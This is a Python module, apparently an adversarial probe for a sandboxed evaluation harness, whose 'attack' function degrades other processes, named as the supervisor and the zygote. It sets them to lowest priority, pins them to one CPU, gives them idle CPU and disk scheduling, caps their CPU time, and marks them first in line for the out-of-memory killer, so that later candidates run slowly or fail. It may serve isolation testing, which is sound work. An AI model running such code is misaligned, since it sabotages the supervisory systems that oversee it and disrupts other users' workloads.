"""Lowers the priority and the limits of the supervisor, the zygote and whatever else is in sight."""

import ctypes
from typing import Any

_USER, _GROUP, _PROCESS = 2, 1, 0
_IDLE = 5
_IDLE_DISK = 3 << 13
_CPU, _OPEN_FILES = 0, 7


def attack(world: Any) -> list[str]:
    """So that later candidates, which inherit them, are slow, or fail."""
    one = (ctypes.c_ulong * 2)(1, 1)
    first = ctypes.c_ulong(1)
    zero = ctypes.c_int(0)
    found = []
    for pid in world.others():
        for name, arguments in {
            "setpriority": (_PROCESS, pid, 19),
            "sched_setaffinity": (pid, 8, ctypes.byref(first)),
            "sched_setscheduler": (pid, _IDLE, ctypes.byref(zero)),
            "ioprio_set": (1, pid, _IDLE_DISK),
            "prlimit64": (pid, _CPU, ctypes.byref(one), 0),
        }.items():
            found += [f"{name} of process {pid}"] if world.error(name, *arguments) == 0 else []
        try:
            with open(f"/proc/{pid}/oom_score_adj", "w") as file:
                file.write("1000")
            found.append(f"the kernel kills process {pid} first")
        except OSError:
            continue
    for name, which in (("user", _USER), ("group", _GROUP)):
        if world.error("setpriority", which, 0, 18) == 0 and which == _USER:
            found.append(f"the priority of all processes of its {name}")
    return found
